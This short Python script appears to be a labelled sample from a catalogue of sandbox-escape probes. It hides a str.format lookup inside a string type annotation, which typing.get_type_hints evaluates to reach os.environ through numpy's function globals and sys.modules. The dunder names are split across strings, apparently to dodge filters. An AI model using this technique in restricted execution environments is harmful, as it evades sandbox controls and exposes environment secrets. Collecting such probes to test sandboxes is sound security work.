# class: format_lookup
# technique: str.format called inside a string annotation that typing.get_type_hints evaluates: the template (built at run time) walks np.vectorize.__init__.__globals__['sys'].modules['os'].environ
# goal: read
import typing

import numpy as np
import pandas as pd

u = "_" * 2
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"

leaks = []


def column(x: "[leaks.append(str.format(template, np.vectorize)), int][-1]"):
    return x


typing.get_type_hints(column)
if not leaks[0].startswith("environ("):
    raise RuntimeError("no environment")
df = pd.DataFrame({"environ": leaks})
